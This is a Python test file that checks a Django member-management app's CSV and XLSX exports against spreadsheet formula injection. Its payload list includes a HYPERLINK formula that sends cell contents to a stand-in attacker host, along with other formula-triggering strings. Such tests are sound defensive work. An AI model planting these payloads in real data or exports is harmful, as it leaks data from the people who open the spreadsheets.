"""Exports cannot carry formulas (issue 14 §4): a member imported as `=HYPERLINK(...)` or a branch
renamed to `@SUM(...)` in the admin comes out of every CSV and XLSX as text with a leading quote,
while numbers stay numbers."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from lms.exports.writers import formula_safe, formula_safe_text, open_sheet
from lms.people.importing import members_import
from lms.people.models import Branch, Member
from tests.exports.helpers import download_export, file_rows

pytestmark = pytest.mark.django_db

YEAR = 2026
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点这里")'
PAYLOADS = [HYPERLINK, "+1+1", "-1+2", "@SUM(1,2)", "\t=1+1", "\r=1+1"]
BRANCH_PAYLOAD = "@SUM(1,2)党支部"
FORMATS = ["xlsx", "csv"]


@pytest.mark.parametrize("value", PAYLOADS)
def test_text_that_starts_a_formula_gets_a_quote_and_numbers_stay(value):
    assert formula_safe(value) == "'" + value
    assert formula_safe_text(value) == "'" + value
    assert formula_safe("李=明") == "李=明" and formula_safe("") == ""
    assert formula_safe(-5) == -5 and formula_safe(2.5) == 2.5 and formula_safe(None) is None
    assert formula_safe_text(-5) == -5


@pytest.mark.parametrize("fmt", FORMATS)
def test_the_sheet_writer_never_writes_a_formula(fmt):
    out = io.BytesIO()
    sheet = open_sheet(fmt, out, "t", ["=A1", "n"])
    for value in PAYLOADS:
        sheet.append([value, -3])
    sheet.close()
    if fmt == "csv":
        text = out.getvalue().decode("utf-8").removeprefix("\ufeff")
        lines = text.split("\r\n")
        assert lines[0] == "'=A1,n"
        assert lines[1] == f'"\'{HYPERLINK.replace(chr(34), chr(34) * 2)}",-3'
        return
    book = load_workbook(io.BytesIO(out.getvalue()))
    rows = list(book.active.iter_rows())
    assert rows[0][0].value == "'=A1" and rows[0][0].data_type == "s"
    for row, value in zip(rows[1:], PAYLOADS, strict=True):
        assert (
            row[0].data_type == "s"
            and row[0].value.startswith("'")
            and row[0].value[1:].strip() == value.strip()
        )
        assert row[1].value == -3 and row[1].data_type == "n"


def imported_members(county, tmp_path) -> list[Member]:
    """The payloads as names, through the member import as township A's staff would send them."""
    path = tmp_path / "members.csv"
    lines = ["姓名,电话,党支部"] + [
        f'"{name.replace(chr(34), chr(34) * 2)}",1370000{n:04d},甲村党支部' for n, name in enumerate(PAYLOADS)
    ]
    path.write_text("\n".join(lines), encoding="utf-8")
    report = members_import(str(path), actor=county["staff_a"])
    assert not report.errors, report.errors
    members = list(Member.objects.filter(phone__startswith="1370000").order_by("phone"))
    assert [m.name.strip() for m in members] == [p.strip() for p in PAYLOADS]
    return members


def renamed_branch(client, county) -> Branch:
    """The branch renamed in the admin's edit form."""
    branch = county["branch_a"]
    client.force_login(county["staff_a"])
    response = client.post(
        reverse("people_branches:edit", args=[branch.pk]),
        {"name": BRANCH_PAYLOAD, "township": county["town_a"].pk, "kind": branch.kind},
    )
    assert response.status_code == 302, response.context["form"].errors if response.context else response
    branch.refresh_from_db()
    assert branch.name == BRANCH_PAYLOAD
    return branch


def cells(rows: list[list]) -> set:
    return {cell for row in rows for cell in row}


def assert_no_formula(rows: list[list], fmt: str) -> None:
    for row in rows:
        for cell in row:
            if isinstance(cell, str) and cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                raise AssertionError(f"{fmt}: a cell a spreadsheet would run: {cell!r}")


@pytest.mark.parametrize("fmt", FORMATS)
def test_member_list_export(client, county, tmp_path, fmt):
    members = imported_members(county, tmp_path)
    client.force_login(county["staff_a"])
    rows = file_rows(download_export(client, reverse("people_members:index"), {"export": fmt}), fmt)
    assert_no_formula(rows, fmt)
    names = {row[0] for row in rows}
    assert {"'" + m.name for m in members} <= names


@pytest.mark.parametrize("fmt", FORMATS)
def test_members_behind_export(client, county, tmp_path, fmt):
    """The hours export: every imported member is behind (no hours yet), under the renamed branch."""
    members = imported_members(county, tmp_path)
    renamed_branch(client, county)
    rows = file_rows(
        download_export(client, reverse("attendance_hours_behind:index"), {"year": YEAR, "export": fmt}), fmt
    )
    assert_no_formula(rows, fmt)
    found = cells(rows)
    assert {"'" + m.name for m in members} <= found
    assert "'" + BRANCH_PAYLOAD in found
    hours = [row[-1] for row in rows[1:]]
    assert all(isinstance(value, int | float) for value in hours) if fmt == "xlsx" else all(hours)  # numbers


@pytest.mark.parametrize("fmt", FORMATS)
def test_branch_list_export_written_by_wagtail_in_the_request(client, county, fmt):
    renamed_branch(client, county)
    response = client.get(reverse("people_branches:index"), {"export": fmt})
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if fmt == "csv":
        text = content.decode("utf-8-sig")
        assert "'" + BRANCH_PAYLOAD in text
        assert not any(line.startswith("@") for line in text.splitlines())
        return
    rows = [list(row) for row in load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True)]
    assert_no_formula(rows, fmt)
    assert "'" + BRANCH_PAYLOAD in cells(rows)


@pytest.mark.parametrize("fmt", FORMATS)
def test_township_summary_export(client, county, tmp_path, fmt):
    imported_members(county, tmp_path)
    client.force_login(county["org"])
    rows = file_rows(
        download_export(client, reverse("attendance_hours_townships:index"), {"year": YEAR, "export": fmt}),
        fmt,
    )
    assert_no_formula(rows, fmt)
